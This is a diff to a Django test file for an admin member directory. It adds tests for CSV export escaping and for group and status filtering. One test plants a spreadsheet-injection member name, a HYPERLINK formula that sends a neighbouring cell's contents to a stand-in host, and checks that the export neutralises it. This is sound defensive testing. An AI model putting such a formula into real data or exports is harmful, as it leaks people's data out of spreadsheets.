@@ -6,7 +6,7 @@ import pytest
 from members.demo_content import demo_groups_create
 from members.factories import MemberFactory
 from members.models import MemberProfile, Region, Topic
-from members.services import membership_join
+from members.services.memberships import membership_join
 
 URL = "/admin/member-directory/"
 pytestmark = pytest.mark.django_db
@@ -102,3 +102,37 @@ def test_query_count_is_the_same_for_10_and_1000_members(staff_client, people):
         membership_join(member=member, group=carers, accepted_version=carers.current_ground_rules())
     with_a_thousand = count()
     assert with_a_thousand == with_ten, (with_ten, with_a_thousand)
+
+
+@pytest.fixture
+def groups(db):
+    return {group.slug: group for group in demo_groups_create()}
+
+
+def _join(member, group):
+    return membership_join(
+        member=member, group=group, accepted_version=group.current_ground_rules()
+    )
+
+
+def test_directory_csv_keeps_formulas_as_text(client, staff, admin_login, groups):
+    MemberFactory(email="evil@example.org", name='=HYPERLINK("http://x.invalid/?"&B2,"hi")')
+    admin_login(staff)
+    response = client.get("/admin/member-directory/", {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = [row[0] for row in rows[1:]]
+    assert '\'=HYPERLINK("http://x.invalid/?"&B2,"hi")' in names
+
+
+def test_directory_group_and_status_filters_describe_one_membership(
+    client, staff, admin_login, groups
+):
+    person = MemberFactory(email="two@example.org", name="Two Groups")
+    _join(person, groups["living-with-diabetes"])  # active here
+    _join(person, groups["mental-health-lived-experience-panel"])  # applied there
+    admin_login(staff)
+    response = client.get(
+        "/admin/member-directory/",
+        {"group": groups["living-with-diabetes"].pk, "status": "applied"},
+    )
+    assert "Two Groups" not in response.content.decode()
